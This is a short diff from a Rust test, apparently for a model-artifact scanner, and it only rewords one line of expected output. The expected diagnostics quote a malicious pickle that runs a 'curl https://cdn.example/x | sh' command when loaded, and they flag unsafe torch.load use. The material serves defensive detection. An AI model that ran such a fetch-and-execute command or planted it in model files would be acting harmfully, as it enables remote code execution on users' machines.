@@ -29,7 +29,7 @@ fn one_line_each() {
     models/resnet.pt!archive/data.pkl@0x1f: error[global-not-allowed] loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system
     src/train.py:12:12: error[unsafe-load] torch.load without weights_only=True runs what the file says
     weighbridge: refused: 4 errors in 3 files, 1 warning
-    weighbridge: checked: 12 artifacts and 30 source files in the work tree; 1 not read to its end, 2 excluded by the policy
+    weighbridge: checked: 12 artifacts and 30 source files in the work tree; 1 not read completely, 2 excluded by the policy
     weighbridge: policy: weighbridge.yaml
     weighbridge: note: the clone is shallow
     ");
